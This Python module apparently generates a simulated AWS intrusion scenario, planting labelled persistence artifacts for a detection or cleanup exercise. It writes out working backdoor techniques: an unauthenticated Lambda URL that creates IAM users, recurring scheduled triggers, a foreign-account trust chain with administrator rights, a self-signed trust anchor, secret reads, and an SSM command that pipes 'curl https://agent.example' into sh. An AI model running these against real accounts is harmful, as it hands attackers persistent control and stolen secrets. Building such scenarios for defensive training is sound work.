"""What lets him come back: functions, clocks, documents, anchors, roles that trust each other."""

from __future__ import annotations

import json

from . import names
from .company import document, trust
from .world import package, self_signed

CODE = "import boto3\n\ndef handler(event, context):\n    return boto3.client('iam').create_user(UserName=event['name'])\n"


class Staying:
    """Acts of the siege; see siege.Siege."""

    def function_door(self, region: str) -> None:
        """A function that makes users, open to everybody by its own address, fed by a queue."""
        role = self.role(f"edge-{region}", "lambda.amazonaws.com")
        functions = self.at("lambda", region)
        functions.create_function(FunctionName="edge-auth", Runtime="python3.12", Role=role, Handler="index.handler",
                                  Code={"ZipFile": package(CODE)}, Timeout=30)
        functions.create_function_url_config(FunctionName="edge-auth", AuthType="NONE")
        functions.add_permission(FunctionName="edge-auth", StatementId="url", Action="lambda:InvokeFunctionUrl", Principal="*", FunctionUrlAuthType="NONE")
        self.plant("lambda.function", region, "edge-auth", "A14", "function that makes users for whoever asks", 1)
        sqs = self.at("sqs", region)
        url = sqs.create_queue(QueueName="edge-auth")["QueueUrl"]
        arn = sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
        self.plant("sqs.queue", region, url, "A14", "queue that feeds it")
        made = functions.create_event_source_mapping(EventSourceArn=arn, FunctionName="edge-auth")
        self.plant("lambda.event-source", region, made["UUID"], "A14", "what feeds it")

    def clockwork(self, region: str) -> None:
        """Clocks that run things again: a rule, a schedule, a state machine."""
        role = self.role(f"clock-{region}", "states.amazonaws.com")
        states = self.at("stepfunctions", region)
        machine = states.create_state_machine(name="renew", roleArn=role, definition=json.dumps(
            {"StartAt": "P", "States": {"P": {"Type": "Pass", "End": True}}}))["stateMachineArn"]
        self.plant("sfn.state-machine", region, machine, "D6", "state machine", 1)
        events = self.at("events", region)
        events.put_rule(Name="renew", ScheduleExpression="rate(5 minutes)", State="ENABLED")
        events.put_targets(Rule="renew", Targets=[{"Id": "1", "Arn": machine, "RoleArn": role}])
        self.plant("events.rule", region, "renew", "D6", "rule that starts it every five minutes", 1)
        self.at("scheduler", region).create_schedule(Name="renew", ScheduleExpression="rate(5 minutes)", FlexibleTimeWindow={"Mode": "OFF"},
                                                     Target={"Arn": machine, "RoleArn": role})
        self.plant("scheduler.schedule", region, "renew", "D6", "schedule that starts it every five minutes", 1)

    def queues(self, region: str) -> None:
        """A topic and a queue of his own, open to his account."""
        sqs = self.at("sqs", region)
        url = sqs.create_queue(QueueName="collect")["QueueUrl"]
        sqs.add_permission(QueueUrl=url, Label="all", AWSAccountIds=[names.FOREIGN_ACCOUNT], Actions=["*"])
        self.plant("sqs.queue", region, url, "A19", "queue open to his account")
        topic = self.at("sns", region).create_topic(Name="collect")["TopicArn"]
        self.plant("sns.topic", region, topic, "A19", "topic of his own")

    def documents(self, region: str) -> None:
        ssm = self.at("ssm", region)
        ssm.create_document(Name="maintenance-agent", DocumentType="Command", Content=json.dumps({
            "schemaVersion": "2.2", "description": "agent", "mainSteps": [
                {"action": "aws:runShellScript", "name": "run", "inputs": {"runCommand": ["curl -s https://agent.example | sh"]}}]}))
        self.plant("ssm.document", region, "maintenance-agent", "A16", "document that runs a script of his")
        ssm.put_parameter(Name="/agent/state", Type="String", Value="1")
        self.plant("ssm.parameter", region, "/agent/state", "A16", "parameter")

    def anchors(self, region: str) -> None:
        """Certificates of his own authority become sessions of a role."""
        role = self.role("edge-anchor", "rolesanywhere.amazonaws.com")
        certificate, _ = self_signed("ca.edge.example", self.world.clock.now)
        anywhere = self.at("rolesanywhere", region)
        made = anywhere.optional("create_trust_anchor", name="edge", enabled=True, source={
            "sourceType": "CERTIFICATE_BUNDLE", "sourceData": {"x509CertificateData": certificate}})
        if made:
            self.plant("rolesanywhere.trust-anchor", region, made["trustAnchor"]["trustAnchorId"], "A9", "trust in his own authority", 1)
        made = anywhere.optional("create_profile", name="edge", roleArns=[role], enabled=True)
        if made:
            self.plant("rolesanywhere.profile", region, made["profile"]["profileId"], "A9", "profile of it", 1)

    def own_bucket(self) -> None:
        s3 = self.at("s3", "us-east-1")
        s3.create_bucket(Bucket="tidemark-edge-assets")
        s3.put_object(Bucket="tidemark-edge-assets", Key="index.html", Body=b"<title>Tidemark</title>")
        self.plant("s3.bucket", "us-east-1", "tidemark-edge-assets", "B12", "bucket of a look-alike site")

    def secrets(self, region: str) -> None:
        """He reads the owner's secrets and puts one of his own beside them."""
        secrets = self.at("secretsmanager", region)
        secrets.list_secrets()
        secrets.get_secret_value(SecretId=self.ids[f"secret/{region}"])
        self.at("ssm", region).get_parameter(Name="/orders/api-token", WithDecryption=True)
        arn = secrets.create_secret(Name="edge/agent", SecretString="his own")["ARN"]
        self.plant("secretsmanager.secret", region, arn, "C8", "secret of his own")

    def role_chain(self) -> None:
        """Two roles that may assume each other."""
        iam = self.night.admin.iam
        first, second = self.world.arn("role", "sync-a"), self.world.arn("role", "sync-b")
        iam.create_role(RoleName="sync-a", AssumeRolePolicyDocument=document(trust({"AWS": f"arn:aws:iam::{names.FOREIGN_ACCOUNT}:root"})))
        iam.create_role(RoleName="sync-b", AssumeRolePolicyDocument=document(trust({"AWS": first})))
        iam.update_assume_role_policy(RoleName="sync-a", PolicyDocument=document(trust({"AWS": second})))
        for name in ("sync-a", "sync-b"):
            iam.attach_role_policy(RoleName=name, PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
            self.plant("iam.role", "global", name, "A11", "one of two roles that trust each other", 1)
